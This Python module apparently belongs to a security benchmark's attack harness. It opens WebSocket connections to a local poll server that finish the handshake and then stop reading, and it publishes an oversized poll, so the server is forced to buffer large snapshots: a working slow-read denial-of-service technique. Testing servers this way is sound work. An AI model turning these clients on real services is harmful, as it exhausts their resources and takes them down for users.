"""WebSocket clients that break the protocol, on raw TCP connections."""

import asyncio
import base64
import json
import os
import socket
from typing import Any

from bench.attacks.target import ATTACKER_ADDRESS, Target, send_request

# A small buffer in the client's kernel, so that the server has to buffer the rest.
_RECEIVE_BUFFER_BYTES = 4096

TEXT, PING, UNFINISHED_TEXT, UNFINISHED = 0x81, 0x89, 0x01, 0x00


def frame(head: int, payload: bytes = b"") -> bytes:
    """Returns a masked client frame (RFC 6455, section 5.2), up to 64 KiB, with a zero mask."""
    if len(payload) < 126:
        size = bytes((0x80 | len(payload),))
    else:
        size = b"\xfe" + len(payload).to_bytes(2, "big")
    return bytes((head,)) + size + bytes(4) + payload


def command(name: str, **fields: Any) -> bytes:
    """Returns a frame with one command."""
    return frame(TEXT, json.dumps({"type": name, **fields}).encode())


async def open_unread(target: Target) -> asyncio.StreamWriter:
    """Opens a socket that reads nothing after the handshake.

    :raises OSError: if the handshake is refused.
    """
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _RECEIVE_BUFFER_BYTES)
    connection.bind((ATTACKER_ADDRESS, 0))
    connection.settimeout(0)
    await asyncio.get_running_loop().sock_connect(connection, ("127.0.0.1", target.port))
    reader, writer = await asyncio.open_connection(sock=connection)
    key = base64.b64encode(os.urandom(16)).decode()
    writer.write(
        "GET /ws HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
    )
    head = await reader.readuntil(b"\r\n\r\n")
    if b" 101 " not in head:
        writer.close()
        raise ConnectionRefusedError(head.partition(b"\r\n")[0].decode())
    transport: Any = writer.transport
    transport.pause_reading()
    return writer


async def create_large_poll(target: Target) -> str:
    """Creates and publishes a poll with the largest possible snapshot; returns its id."""
    _, answer = await _post(
        target, "/api/auth/login", {"email": target.emails[0], "password": target.password}
    )
    token = json.loads(answer)["tokens"]["accessToken"]
    options = [f"{number:02}{'ä' * 198}" for number in range(50)]
    poll = {"question": "Which one?", "options": options, "isPublished": True}
    _, answer = await _post(target, "/api/polls", poll, f"\r\nAuthorization: Bearer {token}")
    return str(json.loads(answer)["poll"]["id"])


async def _post(target: Target, path: str, body: Any, headers: str = "") -> tuple[int, bytes]:
    head = f"POST {path} HTTP/1.1\r\nContent-Type: application/json{headers}"
    return await send_request(target, head, json.dumps(body).encode())
